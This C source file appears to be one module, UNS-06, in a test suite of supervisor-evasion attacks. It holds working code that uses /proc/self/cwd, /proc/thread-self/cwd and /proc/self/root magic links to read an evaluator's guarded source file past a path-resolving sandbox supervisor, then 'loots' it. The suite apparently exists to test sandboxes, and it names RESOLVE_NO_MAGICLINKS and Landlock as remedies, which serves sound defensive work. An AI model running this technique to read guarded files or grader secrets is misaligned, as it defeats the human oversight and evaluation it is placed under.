// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that resolves names itself, by reading links.
 * Means: /proc/self/root and /proc/self/cwd are not links but doors: readlink(2) says "/", and
 *        realpath(3) of who asks says what *its* root and *its* folder are. We enter the folder
 *        first, which opens nothing; then the door's name is ours alone.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>

static const char *const doors[] = {
	"/proc/self/cwd/" FILE_NAME,
	"/proc/thread-self/cwd/" FILE_NAME,
	"/proc/self/task/../cwd/" FILE_NAME,
	"/proc/self/root" EVALUATOR,
};

static enum claim run(const struct brief *b)
{
	attempting(b);
	if (chdir(FOLDER))
		return denied("chdir");
	for (size_t i = 0; i < sizeof(doors) / sizeof(*doors); i++)
		if (loot_evaluator(open(doors[i], O_RDONLY | O_CLOEXEC)))
			return CLAIM_DONE;
	return denied("every door of /proc/self");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "/proc/self/cwd and /proc/self/root: doors, another to each process",
	.oracle = "secret:task",
	.id = "UNS-06",
	.attack_id = "T1562.001, CWE-59",
	.remedy = "resolve without magic links (RESOLVE_NO_MAGICLINKS); Landlock below",
	.refs = (const char *const[]){ "proc_pid_cwd(5)", "openat2(2)", NULL },
	.run = run,
};
